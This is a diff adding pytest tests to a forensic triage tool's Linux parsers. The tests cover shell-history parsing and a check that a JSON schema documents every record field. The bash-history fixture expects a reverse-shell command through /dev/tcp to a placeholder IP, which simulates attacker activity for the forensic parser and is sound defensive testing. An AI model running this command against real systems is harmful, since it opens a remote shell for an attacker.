@@ -298,3 +298,42 @@ def test_journal_written_by_systemd(tree):
     bad.write_bytes(bytes(data))
     recs, issues = run(JournalParser(), tree.parent / "bad", rel)
     assert recs == [] and issues and "journal" in issues[0].message
+
+
+def test_shell_commands_with_times(tree, tmp_path):
+    from triage.parsers.linux.shell_commands import ShellCommandParser
+
+    recs, _ = run(ShellCommandParser(), tree, "home/alice/.bash_history")
+    assert [(r.line, r.entered, r.command, r.user) for r in recs] == [
+        (1, None, "ls", "alice"),
+        (3, datetime(2026, 1, 1, tzinfo=UTC), "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "alice")]
+    (tmp_path / "home/bob").mkdir(parents=True)
+    (tmp_path / "home/bob/.zsh_history").write_bytes(b": 1767225600:0;id\n: 99999999999999999999:0;x\n\xff\xfe\n")
+    recs, _ = run(ShellCommandParser(), tmp_path, "home/bob/.zsh_history")
+    assert [(r.command, r.entered) for r in recs[:1]] == [("id", datetime(2026, 1, 1, tzinfo=UTC))]
+    assert len(recs) == 3 and recs[1].entered is None  # an absurd stamp is no time, the line is kept
+
+
+def test_schema_documents_every_linux_field():
+    """summary.schema.json has an entry schema for each Linux artifact naming every field of its record."""
+    import dataclasses
+    import json
+
+    import triage.parsers.linux.all  # noqa: F401
+    from triage.analyze.records import ArtifactRecord
+
+    schema = json.loads((Path(__file__).parents[2] / "triage/data/summary.schema.json").read_text("utf-8"))
+    arts = schema["properties"]["artifacts"]["properties"]
+    classes = [c for c in _subclasses(ArtifactRecord) if c.__module__.startswith("triage.parsers.linux")]
+    assert len(classes) >= 14
+    for cls in classes:
+        props = arts[cls.artifact]["allOf"][1]["properties"]["entries"]["items"]["properties"]
+        names = {f.name for f in dataclasses.fields(cls)} - {"source"}
+        assert names <= set(props), (cls.artifact, names - set(props))
+        assert all(props[n]["description"] for n in names)
+
+
+def _subclasses(cls):
+    for sub in cls.__subclasses__():
+        yield sub
+        yield from _subclasses(sub)
